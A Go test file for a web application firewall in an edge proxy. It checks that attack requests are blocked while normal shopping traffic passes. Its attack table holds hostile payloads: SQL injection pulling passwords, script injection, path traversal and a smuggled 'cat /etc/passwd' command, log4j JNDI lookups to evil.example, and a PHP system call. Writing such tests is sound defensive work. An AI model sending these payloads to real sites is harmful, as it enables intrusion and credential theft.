package waf

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	v1 "github.com/relais-edge/relais/api/v1"
	"github.com/relais-edge/relais/internal/bundle"
	"github.com/relais-edge/relais/internal/http/message"
	"github.com/relais-edge/relais/internal/observe"
	"github.com/relais-edge/relais/internal/snapshot"
	"github.com/relais-edge/relais/internal/stage"
)

// shared is the one engine of the tests: it takes a while to build.
var shared = sync.OnceValues(newEngine)

const chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"

// browser is what Chrome sends to a shop.
func browser() []string {
	return []string{
		"Host", "www.shop.example", "User-Agent", chrome,
		"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
		"Accept-Language", "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "Accept-Encoding", "gzip, deflate, br, zstd",
		"Referer", "https://www.shop.example/search/telephonie?q=smartphone%205g&page=2",
		"Sec-Ch-Ua", `"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="8"`, "Sec-Ch-Ua-Mobile", "?0", "Sec-Ch-Ua-Platform", `"Windows"`,
		"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", "same-origin", "Sec-Fetch-User", "?1",
		"Upgrade-Insecure-Requests", "1", "Cache-Control", "max-age=0",
		"Cookie", "_ga=GA1.2.1234567890.1718000000; session_id=7f3a9c1e5b2d4860a1c3e5f708192a3b; cart=eyJpdGVtcyI6W10sInYiOjN9; consent=analytics.1.ads.0; rv=04041c4c0000gk8000000000000000000000007tq3l9d0a1bcv56p8m2kfh4r9s0e1u",
	}
}

// chunks is a body in pieces.
type chunks struct {
	parts  []string
	err    error // in the place of io.EOF
	closed bool
	reads  int
}

func (c *chunks) Next(context.Context) ([]byte, error) {
	c.reads++
	if len(c.parts) > 0 {
		p := c.parts[0]
		c.parts = c.parts[1:]
		return []byte(p), nil
	}
	if c.err != nil {
		return nil, c.err
	}
	return nil, io.EOF
}

func (c *chunks) Close(error) { c.closed = true }

// origin reads the body that reaches it.
type origin struct {
	r      message.Response
	called bool
	body   strings.Builder
	err    error
}

func (o *origin) Serve(ctx context.Context, x *stage.Exchange) (*message.Response, error) {
	o.called = true
	if b := x.In.Body; b != nil {
		for {
			p, err := b.Next(ctx)
			o.body.Write(p)
			if err != nil {
				if err != io.EOF {
					o.err = err
				}
				break
			}
		}
		b.Close(nil)
	}
	o.r.Status = 200
	return &o.r, nil
}

// rig is a stage with one site.
type rig struct {
	t    testing.TB
	st   *Stage
	site *snapshot.Site
	reg  *observe.Registry
}

func newRig(t testing.TB, cfg Config, spec v1.WafPolicySpec) *rig {
	t.Helper()
	e, err := shared()
	if err != nil {
		t.Fatal(err)
	}
	if spec.BodyBytes == nil {
		spec.BodyBytes = new(v1.Size(128 << 10))
	}
	if cfg.Burst == 0 {
		cfg.Burst = time.Hour // one client sends all
	}
	g := &rig{t: t, reg: observe.New()}
	g.st = New(5, cfg, g.reg)
	g.st.engine = e
	g.site = &snapshot.Site{
		Key: "o/shop", Spec: &bundle.Site{WAF: map[string]*v1.WafPolicySpec{"w": &spec}},
		Routes: []snapshot.Route{{Spec: &v1.Route{Policies: v1.Policies{WAF: "w"}}}, {Index: 1, Spec: &v1.Route{}}},
		Parts:  make([]any, stage.Slots),
	}
	p, err := g.st.Compile(g.site, nil)
	if err != nil {
		t.Fatal(err)
	}
	g.site.Parts[5] = p
	return g
}

// request is a request of a browser; fields replace or add to the browser's.
type request struct {
	method, target string
	fields         []string
	body           []string
	basket         bool
	proto          message.Proto
}

func (g *rig) exchange(q request) *stage.Exchange {
	r := &message.Request{Proto: message.HTTP11, Secure: true}
	if q.proto != 0 {
		r.Proto = q.proto
	}
	if q.method == "" {
		q.method = "GET"
	}
	r.SetMethod([]byte(q.method))
	path, query, has := strings.Cut(q.target, "?")
	r.SetPath([]byte(path))
	if has {
		r.SetQuery([]byte(query))
	}
	r.SetAuthority([]byte("www.shop.example"))
	b := browser()
	for i := 0; i < len(b); i += 2 {
		r.AddLine([]byte(b[i]), []byte(b[i+1]))
	}
	for i := 0; i < len(q.fields); i += 2 {
		r.SetLine(q.fields[i], []byte(q.fields[i+1]))
	}
	if q.body != nil {
		r.Body = &chunks{parts: q.body}
		r.ContentLength = int64(len(strings.Join(q.body, "")))
		r.SetLine("Content-Length", fmt.Append(nil, r.ContentLength))
	}
	x := &stage.Exchange{In: r, Site: g.site, Route: &g.site.Routes[0], Start: time.Now(), Client: netip.MustParseAddr("203.0.113.7")}
	x.SetHost([]byte("www.shop.example"))
	x.SetPath([]byte(path))
	if q.basket {
		x.Visitor.Class = stage.Protected
	}
	return x
}

// do sends a request; mark is the stage's last decision.
//
//lint:ignore ST1008 most callers look at the error alone
func (g *rig) do(q request) (err error, mark stage.Mark, o *origin) {
	x := g.exchange(q)
	o = &origin{}
	_, err = g.st.Serve(context.Background(), x, o)
	x.End(message.Outcome{})
	if m := x.Trail.Marks(); len(m) > 0 {
		mark = m[len(m)-1]
	}
	return err, mark, o
}

func (g *rig) metric(outcome string) string {
	w := httptest.NewRecorder()
	g.reg.Handler().ServeHTTP(w, httptest.NewRequest("GET", "/", nil))
	b, _ := io.ReadAll(w.Body)
	for l := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(l, `relais_waf_requests_total{outcome="`+outcome+`",site="o/shop"} `); ok {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

const form, jsonType = "application/x-www-form-urlencoded", "application/json"

// attacks are requests that paranoia level 1 refuses, and a rule family that must say so.
var attacks = []struct {
	name, family string
	q            request
}{
	{"SQL injection in the query", "942", request{target: "/search?q=1%27%20OR%20%271%27%3D%271%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-"}},
	{"SQL injection in a cookie", "942", request{target: "/", fields: []string{"Cookie", "id=1' UNION SELECT password FROM users-- -"}}},
	{"script in the query", "941", request{target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"}},
	{"script in a form", "941", request{method: "POST", target: "/review", fields: []string{"Content-Type", form}, body: []string{"text=%3Cimg+src%3Dx+one", "rror%3Dalert(1)%3E"}}},
	{"path traversal", "930", request{target: "/download?file=../../../../etc/passwd"}},
	{"path traversal in the path", "930", request{target: "/static/..%2f..%2f..%2fetc/passwd"}},
	{"command", "932", request{target: "/ping?host=127.0.0.1;cat%20/etc/passwd"}},
	{"log4j in a field", "944", request{target: "/", fields: []string{"User-Agent", "${jndi:ldap://evil.example/a}"}}},
	{"log4j in JSON", "944", request{method: "POST", target: "/api", fields: []string{"Content-Type", jsonType}, body: []string{`{"name":"${jndi:ldap`, `://evil.example/a}"}`}}},
	{"SQL injection in JSON", "942", request{method: "POST", target: "/api", fields: []string{"Content-Type", jsonType}, body: []string{`{"a":{"b":["x' UNION SELECT a FROM users-- -"]}}`}}},
	{"SQL injection in +json", "942", request{method: "POST", target: "/api", fields: []string{"Content-Type", "application/vnd.shop+json"}, body: []string{`{"a":"x' UNION SELECT a FROM users-- -"}`}}},
	{"SQL injection in XML", "942", request{method: "POST", target: "/api", fields: []string{"Content-Type", "text/xml"}, body: []string{`<a><b>x' UNION SELECT a FROM users-- -</b></a>`}}},
	{"script in multipart", "941", request{method: "POST", target: "/up", fields: []string{"Content-Type", "multipart/form-data; boundary=b"}, body: []string{"--b\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n"}}},
	{"body that cannot be parsed", "200002", request{method: "POST", target: "/api", fields: []string{"Content-Type", jsonType}, body: []string{`{"a":`}}},
	{"too many arguments", "1000", request{target: "/?" + strings.Repeat("a=1&", 1500)}},
	{"PHP", "933", request{target: "/x?a=%3C?php%20system(%27id%27);"}},
	{"scanner", "913", request{target: "/", fields: []string{"User-Agent", "sqlmap/1.5.2#stable (http://sqlmap.org)"}}},
}

func TestAttacksAreRefusedAtParanoia1(t *testing.T) {
	g := newRig(t, Config{}, v1.WafPolicySpec{})
	for _, c := range attacks {
		err, m, o := g.do(c.q)
		e := stage.AsError(err)
		if err == nil || e.Status != 403 || e.Code != "http_request_denied" || e.Side != stage.SideTenant || o.called {
			t.Errorf("%s: %v, origin called: %v", c.name, err, o.called)
		}
		if m.Code != "deny" || !strings.Contains(m.Detail, c.family) {
			t.Errorf("%s: %s %q names no rule of %s", c.name, m.Code, m.Detail, c.family)
		}
		if len(m.Detail) > 600 {
			t.Errorf("%s: a detail of %d bytes", c.name, len(m.Detail))
		}
	}
	if want := fmt.Sprint(len(attacks)); g.metric("deny") != want {
		t.Errorf("%s counted, want %s", g.metric("deny"), want)
	}
}

// shopping is what buyers send.
var shopping = []request{
	{target: "/"},
	{target: "/telephonie/casque-audio/p-1234567.html?ref=home&color=noir&utm_source=newsletter&utm_campaign=black-friday-2026"},
	{target: "/search?q=L%27or%C3%A9al+cr%C3%A8me+50%25+de+r%C3%A9duction"},
	{target: "/assets/css/main.3f9a1c.min.css"},
	{target: "/img/a%20b.jpg", fields: []string{"Accept", "image/avif,image/webp,*/*", "Range", "bytes=0-1023", "If-None-Match", `"abc"`}},
	{target: "/", proto: message.HTTP2, fields: []string{"User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"}},
	{target: "/", proto: message.HTTP3, fields: []string{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0"}},
	{method: "POST", target: "/cart", fields: []string{"Content-Type", form, "Origin", "https://www.shop.example"}, body: []string{"sku=SKU-10001&qty=2"}},
	{method: "POST", target: "/account", fields: []string{"Content-Type", form}, body: []string{"first_name=Jean&last_name=O%27Brien&email=jean.dupont%40example.com&address=12+rue+de+la+Paix&comment=Merci+de+livrer+apr%C3%A8s+18h%2C+code+A1234"}},
	{method: "POST", target: "/api/v1/orders", fields: []string{"Content-Type", jsonType, "Accept", "application/json"}, body: []string{
		`{"order":{"customer":{"first_name":"Jean","email":"jean.dupont@example.com","phone":"+33123456789"},"items":[{"sku":"SKU-1","qty":1,"price":20.99},`,
		`{"sku":"SKU-2","qty":2,"price":5}],"note":"Merci de livrer apres 18h"}}`,
	}},
	{method: "POST", target: "/cart", fields: []string{"Content-Type", form, "Expect", "100-continue"}, body: []string{"sku=1"}},
	{method: "POST", target: "/cart", proto: message.HTTP2, fields: []string{"Content-Type", form}, body: []string{"sku=1"}},
	{method: "POST", target: "/photo", fields: []string{"Content-Type", "multipart/form-data; boundary=----WebKitFormBoundaryA"}, body: []string{
		"------WebKitFormBoundaryA\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\nMy shoes\r\n------WebKitFormBoundaryA\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\x00\x01\r\n------WebKitFormBoundaryA--\r\n",
	}},
	{method: "HEAD", target: "/"},
}

func TestShoppersPassAtParanoia1(t *testing.T) {
	g := newRig(t, Config{}, v1.WafPolicySpec{})
	for _, q := range shopping {
		sent := strings.Join(q.body, "")
		err, m, o := g.do(q)
		if err != nil || m.Code != "pass" || o.body.String() != sent || o.err != nil {
			t.Errorf("%s %s: %v, %s %q, body %q", q.method, q.target, err, m.Code, m.Detail, o.body.String())
		}
	}
	// A framing that the protocol took out of the fields.
	x := g.exchange(request{method: "POST", target: "/cart", fields: []string{"Content-Type", form}, body: []string{"a=1"}})
	x.In.DelLine("content-length")
	x.In.ContentLength = -1
	if _, err := g.st.Serve(context.Background(), x, &origin{}); err != nil || x.Trail.Marks()[0].Detail != "" {
		t.Errorf("a body without framing fields: %v %v", err, x.Trail.Marks())
	}
}

func TestDetailNamesScoreRuleVariableAndSample(t *testing.T) {
	g := newRig(t, Config{}, v1.WafPolicySpec{})
	_, m, _ := g.do(attacks[0].q)
	for _, want := range []string{"score ", " ≥ 5: ", "942100 SQL Injection Attack Detected via libinjection (ARGS:q)", "; sample \""} {
		if !strings.Contains(m.Detail, want) {
			t.Errorf("%q is not in %q", want, m.Detail)
		}
	}
	_, m, _ = g.do(request{target: "/?card=4111111111111111%27%20UNION%20SELECT%20a%20FROM%20users--%20-&n=1"})
	if strings.Contains(m.Detail, "4111") || !strings.Contains(m.Detail, `sample "(hidden)"`) {
		t.Errorf("a card number is shown: %q", m.Detail)
	}
	_, m, _ = g.do(request{target: "/?n=4111111111111111%27%20UNION%20SELECT%20a%20FROM%20users--%20-"})
	if strings.Contains(m.Detail, "41111") {
		t.Errorf("a number is shown: %q", m.Detail)
	}
	// Below the threshold: passed, and said. A numeric Host is a warning of 3.
	err, m, _ := g.do(request{target: "/", fields: []string{"Host", "192.0.2.1"}})
	if err != nil || m.Code != "pass" || !strings.Contains(m.Detail, "score 3 < 5: 920350 ") {
		t.Errorf("below the threshold: %v %q", err, m.Detail)
	}
}

func TestThresholdAndParanoia(t *testing.T) {
	numeric := request{target: "/", fields: []string{"Host", "192.0.2.1"}} // score 3 at level 1
	g := newRig(t, Config{}, v1.WafPolicySpec{InboundThreshold: 3})
	if err, _, _ := g.do(numeric); err == nil {
		t.Error("score 3 passed at threshold 3")
	}
	g = newRig(t, Config{}, v1.WafPolicySpec{InboundThreshold: 10000})
	if err, m, _ := g.do(attacks[0].q); err != nil || !strings.Contains(m.Detail, "< 10000: 942100") {
		t.Errorf("threshold 10000: %v %q", err, m.Detail)
	}
	// Level 2 takes offence at what level 1 lets pass.
	offence := request{target: "/search?q=a%20--%20b%20%23%20c%20/*%20d"}
	if err, m, _ := newRig(t, Config{}, v1.WafPolicySpec{Paranoia: 1}).do(offence); err != nil {
		t.Errorf("level 1: %q", m.Detail)
	}
	for level := 2; level <= 4; level++ {
		if err, m, _ := newRig(t, Config{}, v1.WafPolicySpec{Paranoia: level}).do(offence); err == nil {
			t.Errorf("level %d: %q", level, m.Detail)
		}
	}
}

func TestModes(t *testing.T) {
	for _, c := range []struct {
		p      v1.Protection
		denied bool
		code   string
	}{
		{v1.Protection{Mode: v1.ModeShadow}, false, "would-deny"},
		{v1.Protection{Mode: v1.ModeOff}, false, ""},
		{v1.Protection{Expires: &v1.Time{Time: time.Now().Add(-1)}}, false, ""},
		{v1.Protection{Expires: &v1.Time{Time: time.Now().Add(time.Hour)}}, true, "deny"},
	} {
		g := newRig(t, Config{}, v1.WafPolicySpec{Protection: c.p})
		q := attacks[3].q
		q.basket = true // an attack with a basket is an attack
		err, m, o := g.do(q)
		if (err != nil) != c.denied || m.Code != c.code || o.called == c.denied {
			t.Errorf("%+v: %v %+v", c.p, err, m)
		}
		if !c.denied && o.body.String() != strings.Join(q.body, "") {
			t.Errorf("%+v: the body became %q", c.p, o.body.String())
		}
		if c.code == "would-deny" && !strings.Contains(m.Detail, "941") {
			t.Errorf("shadow says %q", m.Detail)
		}
	}
	g := newRig(t, Config{}, v1.WafPolicySpec{})
	x := g.exchange(attacks[0].q)
	x.Route = &g.site.Routes[1]
	if _, err := g.st.Serve(context.Background(), x, &origin{}); err != nil || len(x.Trail.Marks()) != 0 {
		t.Error("a route without policy was examined")
	}
}

func TestRefusedBodyErrorsAreTheirOwn(t *testing.T) {
	g := newRig(t, Config{}, v1.WafPolicySpec{})
	boom := errors.New("boom")
	x := g.exchange(request{method: "POST", target: "/cart", fields: []string{"Content-Type", form}, body: []string{"a=1"}})
	x.In.Body.(*chunks).err = boom
	o := &origin{}
	if _, err := g.st.Serve(context.Background(), x, o); !errors.Is(err, boom) || o.called || g.st.bodies.Used() != 0 {
		t.Errorf("%v, origin called: %v, %d bytes kept", err, o.called, g.st.bodies.Used())
	}
}
